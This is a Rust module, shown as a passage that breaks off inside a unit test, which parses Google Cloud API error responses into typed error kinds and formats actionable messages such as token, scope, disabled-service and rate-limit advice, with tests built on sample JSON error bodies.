//! Google's error bodies, parsed into one typed error that keeps everything Google said.
//!
//! Google answers errors in the AIP-193 shape `{"error":{code,message,status,details[]}}` where
//! `details` may carry an `ErrorInfo` (reason, domain, metadata) and `Help` links; Cloud Storage
//! and older APIs use the legacy `errors[{reason,message}]` list instead or as well. tokeninfo has
//! its own OAuth shape, `{"error":"invalid_token","error_description":…}`.

use super::patterns::{consumer_project, is_api_service};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// Google's own project that gcloud and ADC user tokens are charged to by default
/// (`764086051850`, GCP-API.md §quota project): advice never tells anyone to change it.
pub const GCLOUD_SHARED_PROJECT: &str = "764086051850";

/// What to tell a user whose token lacks the needed scope.
pub const SCOPE_HELP: &str = "The token lacks the OAuth scope this check needs: it must include https://www.googleapis.com/auth/cloud-platform (cloud-platform.read-only is enough for permissions and APIs, not for service accounts, billing or VPC networks). Tokens from `gcloud auth application-default print-access-token` have the full scope.";

/// What kind of failure an error is; decides the message and whether to retry.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ErrorKind {
    /// The token has expired.
    TokenExpired,
    /// The token is not a valid OAuth access token (revoked, mistyped, an API key, …).
    TokenInvalid,
    /// The token lacks the OAuth scope this API needs.
    ScopeInsufficient,
    /// An API is disabled in the consumer project named by Google.
    ServiceDisabled {
        /// e.g. `cloudresourcemanager.googleapis.com`.
        service: String,
        /// The project whose API is off, e.g. `projects/606999393380`.
        consumer: String,
        /// Where to turn it on.
        activation_url: Option<String>,
    },
    /// Billing is disabled on the consumer project.
    BillingDisabled,
    /// 403 naming the permission the caller lacks for this call (`IAM_PERMISSION_DENIED`).
    IamPermissionDenied {
        /// e.g. `serviceusage.services.get`.
        permission: String,
    },
    /// 403 without a more specific reason: no access, or the resource does not exist.
    PermissionDenied,
    /// 404.
    NotFound,
    /// 429 / `RESOURCE_EXHAUSTED`.
    RateLimited,
    /// 5xx.
    ServerError,
    /// 400 that is not about a single permission.
    InvalidArgument,
    /// 400 naming one permission that cannot be tested on this resource.
    PermissionNotTestable {
        /// The permission Google named.
        permission: String,
    },
    /// 400 from Cloud Storage: the bucket has uniform bucket-level access, so object-level IAM
    /// permissions (named here) cannot be tested on it.
    UniformBucketLevelAccess {
        /// The permissions Google named.
        permissions: Vec<String>,
    },
    /// Anything else.
    Other,
}

/// An error response from Google, with its body parsed and kept.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct GoogleError {
    /// HTTP status of the response.
    pub http_status: u16,
    /// `error.status`, e.g. `PERMISSION_DENIED`, when given.
    pub status: Option<String>,
    /// `error.message` (or tokeninfo's `error_description`).
    pub message: String,
    /// `ErrorInfo.reason` or, failing that, the first legacy `errors[].reason`.
    pub reason: Option<String>,
    /// `ErrorInfo.domain`.
    pub domain: Option<String>,
    /// `ErrorInfo.metadata`.
    pub metadata: BTreeMap<String, String>,
    /// `Help.links[].url`.
    pub help_links: Vec<String>,
    /// The classification.
    pub kind: ErrorKind,
}

/// Why a request produced no usable answer.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum ApiError {
    /// No HTTP response: offline, DNS, TLS or CORS.
    Network {
        /// What the browser said.
        detail: String,
    },
    /// Google answered with an error (boxed: it is large and errors are rare).
    Google(Box<GoogleError>),
    /// A response we could not read (not JSON, or not the documented shape).
    Malformed {
        /// HTTP status.
        http_status: u16,
        /// What was wrong.
        detail: String,
    },
    /// Not sent, because Google would refuse it (e.g. IAM with a read-only token).
    NotSent {
        /// Why, as a sentence fragment.
        reason: String,
    },
}

// Three shapes, tried in turn (an untagged enum would buffer the body and grow the bundle).
#[derive(Deserialize)]
struct StatusEnvelope {
    error: StatusBody,
}

#[derive(Deserialize)]
struct StatusBody {
    #[serde(default)]
    message: String,
    status: Option<String>,
    #[serde(default)]
    errors: Vec<LegacyError>,
    #[serde(default)]
    details: Vec<Detail>,
}

/// The same without `details`, for a body whose details are of a shape we do not know.
#[derive(Deserialize)]
struct BareEnvelope {
    error: BareBody,
}

#[derive(Deserialize)]
struct BareBody {
    #[serde(default)]
    message: String,
    status: Option<String>,
    #[serde(default)]
    errors: Vec<LegacyError>,
}

/// tokeninfo's OAuth shape.
#[derive(Deserialize)]
struct OAuthEnvelope {
    error: String,
    error_description: Option<String>,
}

#[derive(Deserialize)]
struct LegacyError {
    reason: Option<String>,
}

/// One `details[]` entry: the fields of `ErrorInfo` and `Help` (other types are ignored).
#[derive(Deserialize)]
struct Detail {
    #[serde(rename = "@type", default)]
    type_url: String,
    reason: Option<String>,
    domain: Option<String>,
    #[serde(default)]
    metadata: BTreeMap<String, String>,
    #[serde(default)]
    links: Vec<HelpLink>,
}

#[derive(Deserialize)]
struct HelpLink {
    url: String,
}

const ERROR_INFO: &str = "type.googleapis.com/google.rpc.ErrorInfo";
const HELP: &str = "type.googleapis.com/google.rpc.Help";

impl GoogleError {
    /// Parses an error response. Returns [`ApiError::Malformed`] when the body is not one of
    /// Google's error shapes, so a proxy's HTML page is never mistaken for an answer.
    pub fn from_response(http_status: u16, body: &str) -> ApiError {
        let mut error = GoogleError {
            http_status,
            status: None,
            message: String::new(),
            reason: None,
            domain: None,
            metadata: BTreeMap::new(),
            help_links: Vec::new(),
            kind: ErrorKind::Other,
        };
        let legacy_reason = |errors: Vec<LegacyError>| errors.into_iter().find_map(|e| e.reason);
        if let Ok(StatusEnvelope { error: body }) = super::json::from_str(body) {
            error.message = body.message;
            error.status = body.status;
            for detail in body.details {
                match detail.type_url.as_str() {
                    ERROR_INFO => {
                        error.reason = detail.reason;
                        error.domain = detail.domain;
                        error.metadata = detail.metadata;
                    }
                    HELP => error
                        .help_links
                        .extend(detail.links.into_iter().map(|l| l.url)),
                    _ => {}
                }
            }
            if error.reason.is_none() {
                error.reason = legacy_reason(body.errors);
            }
        } else if let Ok(BareEnvelope { error: body }) = super::json::from_str(body) {
            error.message = body.message;
            error.status = body.status;
            error.reason = legacy_reason(body.errors);
        } else if let Ok(oauth) = super::json::from_str::<OAuthEnvelope>(body) {
            error.message = oauth.error_description.unwrap_or_default();
            error.reason = Some(oauth.error);
        } else {
            return ApiError::Malformed {
                http_status,
                detail: format!("HTTP {http_status} with a body that is not a Google error"),
            };
        }
        error.kind = error.classify();
        ApiError::Google(Box::new(error))
    }

    fn classify(&self) -> ErrorKind {
        let reason = self.reason.as_deref().unwrap_or("");
        match reason {
            "ACCESS_TOKEN_EXPIRED" => return ErrorKind::TokenExpired,
            "ACCESS_TOKEN_TYPE_UNSUPPORTED"
            | "CREDENTIALS_MISSING"
            | "invalid_token"
            | "authError" => return ErrorKind::TokenInvalid,
            "ACCESS_TOKEN_SCOPE_INSUFFICIENT" | "insufficientPermissions" => {
                return ErrorKind::ScopeInsufficient
            }
            "SERVICE_DISABLED" | "accessNotConfigured" => {
                let service = self
                    .metadata
                    .get("service")
                    .cloned()
                    .or_else(|| service_from_message(&self.message))
                    .unwrap_or_default();
                let consumer = self
                    .metadata
                    .get("consumer")
                    .cloned()
                    .or_else(|| {
                        project_from_message(&self.message).map(|n| format!("projects/{n}"))
                    })
                    .unwrap_or_default();
                let activation_url = self
                    .metadata
                    .get("activationUrl")
                    .cloned()
                    .or_else(|| self.help_links.first().cloned());
                return ErrorKind::ServiceDisabled {
                    service,
                    consumer,
                    activation_url,
                };
            }
            "BILLING_DISABLED" => return ErrorKind::BillingDisabled,
            "IAM_PERMISSION_DENIED" => {
                let permission = self
                    .metadata
                    .get("permission")
                    .cloned()
                    .or_else(|| quoted_permission(&self.message));
                if let Some(permission) = permission {
                    return ErrorKind::IamPermissionDenied { permission };
                }
            }
            "RATE_LIMIT_EXCEEDED" | "rateLimitExceeded" | "userRateLimitExceeded" => {
                return ErrorKind::RateLimited
            }
            _ => {}
        }
        if self.http_status == 400 {
            if self
                .message
                .to_ascii_lowercase()
                .contains("uniform bucket-level access")
            {
                let permissions = self
                    .message
                    .split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_'))
                    .filter(|w| w.starts_with("storage.") && w.matches('.').count() == 2)
                    .map(str::to_owned)
                    .collect();
                return ErrorKind::UniformBucketLevelAccess { permissions };
            }
            if let Some(permission) = untestable_permission(&self.message) {
                return ErrorKind::PermissionNotTestable { permission };
            }
            return ErrorKind::InvalidArgument;
        }
        match self.http_status {
            401 => ErrorKind::TokenInvalid,
            403 => ErrorKind::PermissionDenied,
            404 => ErrorKind::NotFound,
            429 => ErrorKind::RateLimited,
            500..=599 => ErrorKind::ServerError,
            _ => ErrorKind::Other,
        }
    }
}

/// `Permission X is not valid for this resource.` (Resource Manager) or
/// `X is not a valid Google Cloud Storage permission.` (Cloud Storage) → `X`.
fn untestable_permission(message: &str) -> Option<String> {
    let message = message.trim();
    let name = if let Some(rest) = message.strip_prefix("Permission ") {
        rest.strip_suffix(" is not valid for this resource.")?
    } else {
        message.strip_suffix(" is not a valid Google Cloud Storage permission.")?
    };
    (!name.is_empty() && !name.contains(' ')).then(|| name.trim_matches('\'').to_owned())
}

/// `Permission 'x.y.z' denied on resource …` → `x.y.z`.
fn quoted_permission(message: &str) -> Option<String> {
    let rest = message.strip_prefix("Permission '")?;
    Some(rest[..rest.find('\'')?].to_owned())
}

/// `…/apis/api/<service>/overview?project=N…` in a legacy SERVICE_DISABLED message.
fn service_from_message(message: &str) -> Option<String> {
    let start = message.find("/apis/api/")? + "/apis/api/".len();
    let rest = &message[start..];
    Some(rest[..rest.find('/')?].to_owned())
}

fn project_from_message(message: &str) -> Option<String> {
    let start = message.find("project=")? + "project=".len();
    let digits: String = message[start..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect();
    (!digits.is_empty()).then_some(digits)
}

impl From<super::http::NetError> for ApiError {
    /// A request that got no HTTP answer: the network's failure, or one that never left the app.
    fn from(error: super::http::NetError) -> Self {
        match error {
            super::http::NetError::Network(detail) => ApiError::Network { detail },
            super::http::NetError::NotSent(reason) => ApiError::NotSent { reason },
        }
    }
}

impl ApiError {
    /// The parsed Google error, if there is one.
    pub fn google(&self) -> Option<&GoogleError> {
        match self {
            ApiError::Google(e) => Some(e.as_ref()),
            _ => None,
        }
    }

    /// The classification, if Google answered.
    pub fn kind(&self) -> Option<&ErrorKind> {
        self.google().map(|e| &e.kind)
    }

    /// Whether repeating the same request later may succeed (rate limits and server errors).
    pub fn is_transient(&self) -> bool {
        matches!(
            self.kind(),
            Some(ErrorKind::RateLimited) | Some(ErrorKind::ServerError)
        )
    }

    /// Whether the token itself is unusable, so that no other answer can be trusted.
    pub fn is_token_problem(&self) -> bool {
        matches!(
            self.kind(),
            Some(ErrorKind::TokenExpired) | Some(ErrorKind::TokenInvalid)
        )
    }
}

impl fmt::Display for ApiError {
    /// One sentence a user can act on; Google's own message follows where it adds something.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let google = match self {
            ApiError::Network { detail } => {
                return write!(
                    f,
                    "Could not reach Google ({detail}). Check your connection; a browser extension or proxy blocking googleapis.com, or a CORS failure, looks the same from here."
                )
            }
            ApiError::Malformed {
                http_status,
                detail,
            } => {
                return write!(
                    f,
                    "Google's answer could not be read (HTTP {http_status}): {detail}."
                )
            }
            ApiError::NotSent { reason } => return write!(f, "Not asked: {reason}."),
            ApiError::Google(e) => e,
        };
        match &google.kind {
            ErrorKind::TokenExpired => f.write_str(
                "The access token has expired. Get a new one with `gcloud auth print-access-token` and paste it again.",
            ),
            ErrorKind::TokenInvalid => f.write_str(
                "The access token is not valid (mistyped, revoked or expired). Get a new one with `gcloud auth print-access-token`.",
            ),
            ErrorKind::ScopeInsufficient => f.write_str(SCOPE_HELP),
            ErrorKind::ServiceDisabled {
                service,
                consumer,
                activation_url,
            } => {
                // Google's strings go into a sentence with a command to paste: only names that
                // match the strict patterns are shown at all (a hostile or garbled body gets the
                // generic sentence, never its text inside a command).
                let garbled = !service.is_empty() && !is_api_service(service);
                let service = if garbled { "" } else { service.as_str() };
                let consumer = consumer_project(consumer).unwrap_or("");
                if consumer == GCLOUD_SHARED_PROJECT && !service.is_empty() {
                    // Nobody outside Google can enable anything there: name the way out instead.
                    return write!(
                        f,
                        "The API {service} is off in Google's shared gcloud project ({consumer}), which these requests were charged to and which you cannot change. Charge them to a project of yours: `gcloud auth application-default set-quota-project YOUR_PROJECT` (with {service} enabled there), get a new token, and re-check."
                    );
                }
                // Google's answer may name neither (an unknown body shape): never print blanks.
                if service.is_empty() {
                    f.write_str("An API this check calls")?;
                } else {
                    write!(f, "The API {service}")?;
                }
                f.write_str(" is disabled in ")?;
                if !consumer.is_empty() {
                    write!(f, "project {consumer} — ")?;
                }
                f.write_str("the project Google charges these requests to (the quota project), which can differ from the project you check.")?;
                if garbled {
                    f.write_str(" Google named the API in a form no API name has, so no command is shown: enable it in that project")?;
                } else if service.is_empty() {
                    write!(f, " Google said: \"{}\" Enable it", google.message)?;
                    if activation_url.is_some() {
                        f.write_str(" in the Cloud console")?;
                    }
                } else {
                    write!(f, " Enable it with `gcloud services enable {service}")?;
                    if consumer.is_empty() {
                        f.write_str("` in that project")?;
                    } else {
                        write!(f, " --project {consumer}`")?;
                    }
                    if activation_url.is_some() {
                        f.write_str(" or in the Cloud console")?;
                    }
                }
                f.write_str(", wait a minute, and re-check.")
            }
            ErrorKind::BillingDisabled => {
                write!(f, "Billing is disabled for the project Google charged this request to: {}", google.message)
            }
            ErrorKind::IamPermissionDenied { permission } => write!(
                f,
                "This account lacks {permission}, so this could not be read. ({})",
                google.message
            ),
            ErrorKind::PermissionDenied => write!(
                f,
                "Permission denied: it does not exist or this account cannot see it. ({})",
                google.message
            ),
            ErrorKind::NotFound => write!(f, "Not found: {}", google.message),
            ErrorKind::RateLimited => write!(
                f,
                "Google rate-limited these requests (HTTP {}), even after retrying. Wait a minute and re-check.",
                google.http_status
            ),
            ErrorKind::ServerError => write!(
                f,
                "Google had a server error (HTTP {}), even after retrying: {}",
                google.http_status, google.message
            ),
            ErrorKind::InvalidArgument => write!(f, "Google refused the request: {}", google.message),
            ErrorKind::PermissionNotTestable { permission } => {
                write!(f, "{permission} cannot be tested on this resource.")
            }
            ErrorKind::UniformBucketLevelAccess { permissions } => write!(
                f,
                "The bucket uses uniform bucket-level access: access is granted by the bucket's IAM policy alone, and {} cannot be tested on it.",
                if permissions.is_empty() { "object-level IAM permissions".to_owned() } else { permissions.join(" and ") }
            ),
            ErrorKind::Other => write!(
                f,
                "Google answered HTTP {}: {}",
                google.http_status, google.message
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn google(status: u16, body: &str) -> GoogleError {
        match GoogleError::from_response(status, body) {
            ApiError::Google(e) => *e,
            other => panic!("expected a Google error, got {other:?}"),
        }
    }

    const EXPIRED: &str = r#"{"error":{"code":401,"message":"Request had invalid authentication credentials. Expected OAuth 2 access token, login cookie or other valid authentication credential.","status":"UNAUTHENTICATED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"ACCESS_TOKEN_EXPIRED","domain":"googleapis.com","metadata":{"service":"cloudresourcemanager.googleapis.com","method":"google.cloudresourcemanager.v1.Projects.TestIamPermissions"}}]}}"#;

    #[test]
    fn expired_token() {
        let e = google(401, EXPIRED);
        assert_eq!(e.kind, ErrorKind::TokenExpired);
        assert_eq!(e.status.as_deref(), Some("UNAUTHENTICATED"));
        assert_eq!(e.metadata["service"], "cloudresourcemanager.googleapis.com");
        assert!(ApiError::Google(Box::new(e)).is_token_problem());
    }

    #[test]
    fn unsupported_token_type_and_bare_401() {
        let body = r#"{"error":{"code":401,"message":"Request had invalid authentication credentials.","status":"UNAUTHENTICATED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"ACCESS_TOKEN_TYPE_UNSUPPORTED","domain":"googleapis.com"}]}}"#;
        assert_eq!(google(401, body).kind, ErrorKind::TokenInvalid);
        let bare = r#"{"error":{"code":401,"message":"x","status":"UNAUTHENTICATED"}}"#;
        assert_eq!(google(401, bare).kind, ErrorKind::TokenInvalid);
    }

    #[test]
    fn tokeninfo_invalid_token() {
        let e = google(
            400,
            r#"{"error":"invalid_token","error_description":"Invalid Value"}"#,
        );
        assert_eq!(e.kind, ErrorKind::TokenInvalid);
        assert_eq!(e.message, "Invalid Value");
    }

    #[test]
    fn insufficient_scope_modern_and_legacy() {
        let body = r#"{"error":{"code":403,"message":"Request had insufficient authentication scopes.","errors":[{"message":"Insufficient Permission","domain":"global","reason":"insufficientPermissions"}],"status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"ACCESS_TOKEN_SCOPE_INSUFFICIENT","domain":"googleapis.com","metadata":{"service":"cloudresourcemanager.googleapis.com"}}]}}"#;
        assert_eq!(google(403, body).kind, ErrorKind::ScopeInsufficient);
        let legacy = r#"{"error":{"code":403,"message":"Insufficient Permission","errors":[{"reason":"insufficientPermissions"}]}}"#;
        assert_eq!(google(403, legacy).kind, ErrorKind::ScopeInsufficient);
    }

    #[test]
    fn service_disabled_names_service_and_consumer() {
        let body = r#"{"error":{"code":403,"message":"Cloud Resource Manager API has not been used in project 606999393380 before or it is disabled.","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","domain":"googleapis.com","metadata":{"consumer":"projects/606999393380","service":"cloudresourcemanager.googleapis.com","containerInfo":"606999393380","serviceTitle":"Cloud Resource Manager API","activationUrl":"https://console.developers.google.com/apis/api/cloudresourcemanager.googleapis.com/overview?project=606999393380"}},{"@type":"type.googleapis.com/google.rpc.LocalizedMessage","locale":"en-US","message":"x"},{"@type":"type.googleapis.com/google.rpc.Help","links":[{"description":"Google developers console API activation","url":"https://console.developers.google.com/apis/api/cloudresourcemanager.googleapis.com/overview?project=606999393380"}]}]}}"#;
        let e = google(403, body);
        let ErrorKind::ServiceDisabled {
            service, consumer, ..
        } = &e.kind
        else {
            panic!("{:?}", e.kind)
        };
        assert_eq!(service, "cloudresourcemanager.googleapis.com");
        assert_eq!(consumer, "projects/606999393380");
        assert_eq!(e.help_links.len(), 1);
        let text = ApiError::Google(Box::new(e)).to_string();
        assert!(text.contains(
            "gcloud services enable cloudresourcemanager.googleapis.com --project 606999393380"
        ));
    }

    #[test]
    fn shared_gcloud_project_gets_the_quota_project_way_out_never_an_enable_command() {
        let named = r#"{"error":{"code":403,"message":"x","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","domain":"googleapis.com","metadata":{"consumer":"projects/764086051850","service":"serviceusage.googleapis.com"}}]}}"#;
        let text = GoogleError::from_response(403, named).to_string();
        assert!(text.starts_with("The API serviceusage.googleapis.com is off in Google's shared gcloud project (764086051850)"), "{text}");
        assert!(text.contains("gcloud auth application-default set-quota-project YOUR_PROJECT"));
        assert!(!text.contains("gcloud services enable"));
        // No service named: the generic sentence, never "The API  is off…".
        let unnamed = r#"{"error":{"code":403,"message":"x","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","domain":"googleapis.com","metadata":{"consumer":"projects/764086051850"}}]}}"#;
        let text = GoogleError::from_response(403, unnamed).to_string();
        assert!(
            text.starts_with("An API this check calls is disabled in project 764086051850"),
            "{text}"
        );
    }

    #[test]
    fn legacy_service_disabled_message_only() {
        let body = r#"{"error":{"code":403,"message":"Service Usage API has not been used in project 42 before or it is disabled. Enable it by visiting https://console.developers.google.com/apis/api/serviceusage.googleapis.com/overview?project=42 then retry.","errors":[{"reason":"accessNotConfigured"}]}}"#;
        let ErrorKind::ServiceDisabled {
            service, consumer, ..
        } = google(403, body).kind
        else {
            panic!()
        };
        assert_eq!(service, "serviceusage.googleapis.com");
        assert_eq!(consumer, "projects/42");
    }

    #[test]
    fn iam_permission_denied_names_the_permission() {
        let body = r#"{"error":{"code":403,"message":"Permission 'serviceusage.services.get' denied on resource '//serviceusage.googleapis.com/projects/p1' (or it may not exist).","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"IAM_PERMISSION_DENIED","domain":"serviceusage.googleapis.com","metadata":{"permission":"serviceusage.services.get","resource":"projects/p1"}}]}}"#;
        let e = google(403, body);
        assert_eq!(
            e.kind,
            ErrorKind::IamPermissionDenied {
                permission: "serviceusage.services.get".into()
            }
        );
        let no_metadata = body.replace(r#""permission":"serviceusage.services.get","#, "");
        assert_eq!(google(403, &no_metadata).kind, e.kind);
        assert!(ApiError::Google(Box::new(e))
            .to_string()
            .starts_with("This account lacks serviceusage.services.get"));
    }

    #[test]
    fn project_not_visible() {
        let body = r#"{"error":{"code":403,"message":"The caller does not have permission","status":"PERMISSION_DENIED"}}"#;
        assert_eq!(google(403, body).kind, ErrorKind::PermissionDenied);
    }

    #[test]
    fn untestable_permission_crm_and_storage() {
        let crm = r#"{"error":{"code":400,"message":"Permission resourcemanager.projects.create is not valid for this resource.","status":"INVALID_ARGUMENT"}}"#;
        assert_eq!(
            google(400, crm).kind,
            ErrorKind::PermissionNotTestable {
                permission: "resourcemanager.projects.create".into()
            }
        );
        let gcs = r#"{"error":{"code":400,"message":"logging.buckets.get is not a valid Google Cloud Storage permission.","errors":[{"message":"logging.buckets.get is not a valid Google Cloud Storage permission.","domain":"global","reason":"invalid"}]}}"#;
        let e = google(400, gcs);
        assert_eq!(e.reason.as_deref(), Some("invalid"));
        assert_eq!(
            e.kind,
            ErrorKind::PermissionNotTestable {
                permission: "logging.buckets.get".into()
            }
        );
        let other = r#"{"error":{"code":400,"message":"Request contains an invalid argument.","status":"INVALID_ARGUMENT"}}"#;
        assert_eq!(google(400, other).kind, ErrorKind::InvalidArgument);
    }

    #[test]
    fn uniform_bucket_level_access_names_the_permissions() {
        let body = r#"{"error":{"code":400,"message":"Object policies (storage.objects.getIamPolicy, storage.objects.setIamPolicy) cannot be tested on a bucket with uniform bucket-level access enabled.","errors":[{"message":"x","domain":"global","reason":"invalid"}]}}"#;
        let e = google(400, body);
        assert_eq!(
            e.kind,
            ErrorKind::UniformBucketLevelAccess {
                permissions: vec![
                    "storage.objects.getIamPolicy".into(),
                    "storage.objects.setIamPolicy".into()
                ]
            }
        );
        assert!(ApiError::Google(Box::new(e))
            .to_string()
            .contains("uniform bucket-level access"));
        // Only storage.* names are taken from the message, not any dotted word such as a host.
        let with_link = r#"{"error":{"code":400,"message":"storage.objects.getIamPolicy cannot be tested on a bucket with uniform bucket-level access, see https://cloud.google.com/storage/docs/uniform-bucket-level-access"}}"#;
        assert_eq!(
            google(400, with_link).kind,
            ErrorKind::UniformBucketLevelAccess {
                permissions: vec!["storage.objects.getIamPolicy".into()]
            }
        );
        let unnamed =
            r#"{"error":{"code":400,"message":"Uniform bucket-level access is enabled."}}"#;
        let e = google(400, unnamed);
        assert_eq!(
            e.kind,
            ErrorKind::UniformBucketLevelAccess {
                permissions: vec![]
            }
        );
        assert_eq!(
            ApiError::Google(Box::new(e)).to_string(),
            "The bucket uses uniform bucket-level access: access is granted by the bucket's IAM policy alone, and object-level IAM permissions cannot be tested on it."
        );
    }

    #[test]
    fn only_a_single_well_formed_name_is_untestable() {
        for message in [
            "Permission  is not valid for this resource.",
            "Permission two words is not valid for this resource.",
            " is not a valid Google Cloud Storage permission.",
        ] {
            let body = format!(r#"{{"error":{{"code":400,"message":"{message}"}}}}"#);
            assert_eq!(
                google(400, &body).kind,
                ErrorKind::InvalidArgument,
                "{message}"
            );
        }
        let quoted = r#"{"error":{"code":400,"message":"Permission 'a.b.c' is not valid for this resource."}}"#;
        assert_eq!(
            google(400, quoted).kind,
            ErrorKind::PermissionNotTestable {
                permission: "a.b.c".into()
            }
        );
    }

    #[test]
    fn bare_429_is_a_rate_limit() {
        let e = GoogleError::from_response(
            429,
            r#"{"error":{"code":429,"message":"Too many requests"}}"#,
        );
        assert_eq!(e.kind(), Some(&ErrorKind::RateLimited));
        assert!(e.is_transient());
    }

    #[test]
    fn rate_limit_and_server_errors_are_transient() {
        let body = r#"{"error":{"code":429,"message":"Quota exceeded","status":"RESOURCE_EXHAUSTED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"RATE_LIMIT_EXCEEDED","domain":"googleapis.com","metadata":{"consumer":"projects/764086051850","quota_metric":"cloudresourcemanager.googleapis.com/read_requests"}}]}}"#;
        assert!(GoogleError::from_response(429, body).is_transient());
        let e = GoogleError::from_response(
            503,
            r#"{"error":{"code":503,"message":"unavailable","status":"UNAVAILABLE"}}"#,
        );
        assert!(e.is_transient());
        assert_eq!(e.kind(), Some(&ErrorKind::ServerError));
    }

    #[test]
    fn unknown_detail_shapes_do_not_hide_the_error() {
        let body = r#"{"error":{"code":403,"message":"denied","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.Future","metadata":[1,2]}]}}"#;
        let e = google(403, body);
        assert_eq!(e.kind, ErrorKind::PermissionDenied);
        assert_eq!(e.message, "denied");
    }

    #[test]
    fn non_google_bodies_are_malformed() {
        for body in ["<html>Bad gateway</html>", "", "{\"foo\":1}", "[1,2]"] {
            assert!(matches!(
                GoogleError::from_response(502, body),
                ApiError::Malformed {
                    http_status: 502,
                    ..
                }
            ));
        }
    }

    #[test]
    fn legacy_403_rate_limits_are_transient() {
        for reason in ["rateLimitExceeded", "userRateLimitExceeded"] {
            let body = format!(
                r#"{{"error":{{"code":403,"message":"Rate Limit Exceeded","errors":[{{"domain":"usageLimits","reason":"{reason}","message":"Rate Limit Exceeded"}}]}}}}"#
            );
            let error = GoogleError::from_response(403, &body);
            assert_eq!(error.kind(), Some(&ErrorKind::RateLimited), "{reason}");
            assert!(error.is_transient(), "{reason} is retried");
            assert!(!error.is_token_problem());
            assert_eq!(
                error.to_string(),
                "Google rate-limited these requests (HTTP 403), even after retrying. Wait a minute and re-check."
            );
        }
        // The same 403 without a rate-limit reason is a refusal, not something to retry.
        let denied = GoogleError::from_response(
            403,
            r#"{"error":{"code":403,"message":"Forbidden","errors":[{"domain":"global","reason":"forbidden"}]}}"#,
        );
        assert_eq!(denied.kind(), Some(&ErrorKind::PermissionDenied));
        assert!(!denied.is_transient());
    }

    #[test]
    fn billing_disabled() {
        let body = r#"{"error":{"code":403,"message":"This API method requires billing to be enabled. Please enable billing on project #42 by visiting https://console.developers.google.com/billing/enable?project=42 then retry.","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"BILLING_DISABLED","domain":"googleapis.com","metadata":{"consumer":"projects/42","service":"compute.googleapis.com"}}]}}"#;
        let error = GoogleError::from_response(403, body);
        assert_eq!(error.kind(), Some(&ErrorKind::BillingDisabled));
        assert!(!error.is_transient() && !error.is_token_problem());
        assert_eq!(
            error.to_string(),
            "Billing is disabled for the project Google charged this request to: This API method requires billing to be enabled. Please enable billing on project #42 by visiting https://console.developers.google.com/billing/enable?project=42 then retry."
        );
    }

    #[test]
    fn missing_credentials_and_legacy_auth_error_are_token_problems() {
        let missing = r#"{"error":{"code":401,"message":"Request is missing required authentication credential.","status":"UNAUTHENTICATED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"CREDENTIALS_MISSING","domain":"googleapis.com"}]}}"#;
        let legacy = r#"{"error":{"code":401,"message":"Invalid Credentials","errors":[{"domain":"global","reason":"authError","message":"Invalid Credentials","locationType":"header","location":"Authorization"}]}}"#;
        for (body, reason) in [(missing, "CREDENTIALS_MISSING"), (legacy, "authError")] {
            let error = GoogleError::from_response(401, body);
            assert_eq!(error.kind(), Some(&ErrorKind::TokenInvalid), "{reason}");
            assert_eq!(error.google().unwrap().reason.as_deref(), Some(reason));
            assert!(error.is_token_problem() && !error.is_transient());
            assert_eq!(
                error.to_string(),
                "The access token is not valid (mistyped, revoked or expired). Get a new one with `gcloud auth print-access-token`."
            );
        }
    }

    #[test]
    fn service_disabled_without_names_never_prints_blanks() {
        let body = r#"{"error":{"code":403,"message":"The API is not enabled.","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","domain":"googleapis.com"}]}}"#;
        let error = GoogleError::from_response(403, body);
        assert_eq!(
            error.kind(),
            Some(&ErrorKind::ServiceDisabled {
                service: String::new(),
                consumer: String::new(),
                activation_url: None
            })
        );
        assert_eq!(
            error.to_string(),
            "An API this check calls is disabled in the project Google charges these requests to (the quota project), which can differ from the project you check. Google said: \"The API is not enabled.\" Enable it, wait a minute, and re-check."
        );
        // The service known, the project not.
        let service_only = body.replace(
            r#""domain":"googleapis.com"}"#,
            r#""domain":"googleapis.com","metadata":{"service":"iam.googleapis.com"}}"#,
        );
        let text = GoogleError::from_response(403, &service_only).to_string();
        assert_eq!(
            text,
            "The API iam.googleapis.com is disabled in the project Google charges these requests to (the quota project), which can differ from the project you check. Enable it with `gcloud services enable iam.googleapis.com` in that project, wait a minute, and re-check."
        );
        // The project known (from the message), the service not; the Help link is the way.
        let project_only = r#"{"error":{"code":403,"message":"An API has not been used in project=77 before or it is disabled.","status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","domain":"googleapis.com"},{"@type":"type.googleapis.com/google.rpc.Help","links":[{"url":"https://console.example/enable"}]}]}}"#;
        let error = GoogleError::from_response(403, project_only);
        assert_eq!(
            error.kind(),
            Some(&ErrorKind::ServiceDisabled {
                service: String::new(),
                consumer: "projects/77".into(),
                activation_url: Some("https://console.example/enable".into())
            })
        );
        assert_eq!(
            error.to_string(),
